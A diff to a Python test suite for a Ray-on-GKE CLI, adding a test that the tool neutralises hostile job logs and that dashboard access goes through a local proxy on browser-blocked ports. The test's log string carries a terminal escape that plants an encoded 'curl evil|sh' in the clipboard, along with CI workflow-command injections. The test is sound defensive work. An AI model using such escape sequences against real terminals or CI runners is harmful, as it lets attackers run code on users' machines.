@@ -15,6 +15,7 @@ import subprocess
 import sys
 import threading
 import time
+import urllib.request
 import uuid
 from collections.abc import Iterator
 from dataclasses import replace
@@ -29,6 +30,7 @@ from ray.job_submission import JobStatus, JobSubmissionClient
 
 from tests.ray_head import FlakyLink, free_ports, kubectl_record
 from verl_gke import cli, stack_outputs
+from verl_gke.local_proxy import BROWSER_BLOCKED_PORTS
 from verl_gke.stack_outputs import OutputsError
 
 
@@ -214,6 +216,22 @@ def test_logs_prints_the_jobs_output(
     assert "(TaskRunner pid=4242) Training Progress: 8/8" in out
 
 
+HOSTILE_LOG = ("print(chr(27) + \"]52;c;Y3VybCBldmlsfHNo\" + chr(7) + \"clip\"); "
+               "print(\"  ::add-mask::x\"); print(\"##[set-env name=A]b\"); print(chr(27) + \"[2Kdone\")")
+
+
+@pytest.mark.ray
+@pytest.mark.filterwarnings("ignore:ssl=None is deprecated:DeprecationWarning")  # inside Ray's log tail
+def test_a_jobs_log_reaches_the_terminal_and_ci_inert(
+        capsys: pytest.CaptureFixture[str], ray_head: str, no_pulumi: None) -> None:
+    submission_id = submit(ray_head, entrypoint=f"python -c '{HOSTILE_LOG}'")
+    assert wait_until_done(ray_head, submission_id) == JobStatus.SUCCEEDED
+    for follow in ([], ["--follow"]):
+        code, out, _ = run(capsys, "logs", *follow, "--dashboard-url", ray_head, "--submission-id", submission_id)
+        assert code == 0
+        assert out.splitlines()[-4:] == ["clip", "  > ::add-mask::x", "> ##[set-env name=A]b", "done"], follow
+
+
 @pytest.mark.ray
 @pytest.mark.filterwarnings("ignore:ssl=None is deprecated:DeprecationWarning")  # inside Ray's log tail
 def test_logs_follow_streams_a_running_job_until_it_ends(
@@ -385,13 +403,16 @@ def test_status_through_a_port_forward_the_way_the_job_provider_reaches_the_head
         finished_job, clusterEndpoint="34.1.2.3", clusterCaCertificate=CA))
     code, out, err = run(capsys, "status", "--outputs", str(outputs))
     assert code == 0, err
-    assert f"Ray head       {ray_head}  Ray {ray.__version__}, svc/b200-ray-cluster-head-svc in namespace default" in out
+    # Through the local proxy (shown without its session's secret) in front of the forward.
+    assert re.search(rf"^Ray head       http://127\.0\.0\.1:\d+  Ray {re.escape(ray.__version__)}, "
+                     "svc/b200-ray-cluster-head-svc in namespace default$", out, re.M), out
     assert f"GRPO job       {finished_job}  SUCCEEDED (Pulumi last saw RUNNING)" in out
     assert ("verl-gke: opening a port-forward to svc/b200-ray-cluster-head-svc in namespace default "
             "of cluster verl-a4") in err.splitlines()
     call = kubectl_record(fake_kubectl)
-    assert call["arg"][:7] == ["port-forward", "svc/b200-ray-cluster-head-svc", ":8265", "-n", "default",
-                               "--address", "127.0.0.1"]
+    assert call["arg"][:7] == ["port-forward", "svc/b200-ray-cluster-head-svc", call["arg"][2],
+                               "-n", "default", "--address", "127.0.0.1"]
+    assert int(call["arg"][2].removesuffix(":8265")) in BROWSER_BLOCKED_PORTS
     kubeconfig = yaml.safe_load(Path(f"{fake_kubectl}.kubeconfig").read_text())
     # GKE's endpoint and CA, not the file's.
     assert kubeconfig["clusters"][0]["cluster"] == {"server": f"https://{GKE_ENDPOINT}",
@@ -413,7 +434,11 @@ def test_dashboard_holds_the_port_forward_until_ctrl_c_or_sigterm_and_then_clean
                                stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd=REPO)
     try:
         assert process.stdout is not None
-        assert process.stdout.readline() == f"Ray dashboard: {ray_head}\n"
+        line = process.stdout.readline()
+        assert re.fullmatch(r"Ray dashboard: http://127\.0\.0\.1:\d+/[\w-]{43}/\n", line), line
+        proxied = line.removeprefix("Ray dashboard: ").strip()
+        with urllib.request.urlopen(f"{proxied}api/version", timeout=30) as answer:  # the head, through the proxy
+            assert json.load(answer)["ray_version"] == ray.__version__
         seen = kubectl_record(fake_kubectl)
         kubectl_pid, kubeconfig = int(seen["pid"][0]), Path(seen["kubeconfig"][0])
         assert Path(f"/proc/{kubectl_pid}").exists() and kubeconfig.exists()
@@ -441,7 +466,7 @@ def test_dashboard_closes_its_port_forward_when_its_time_is_up(
     assert time.monotonic() - started >= 1.2
     assert "verl-gke: closing the port-forward after 0.02 min" in done.stderr.splitlines()
     seen = kubectl_record(fake_kubectl)
-    assert seen["arg"][2] == ":8265"  # kubectl picks a free local port
+    assert int(seen["arg"][2].removesuffix(":8265")) in BROWSER_BLOCKED_PORTS  # a port no browser connects to
     assert not Path(f"/proc/{seen['pid'][0]}").exists()
 
 
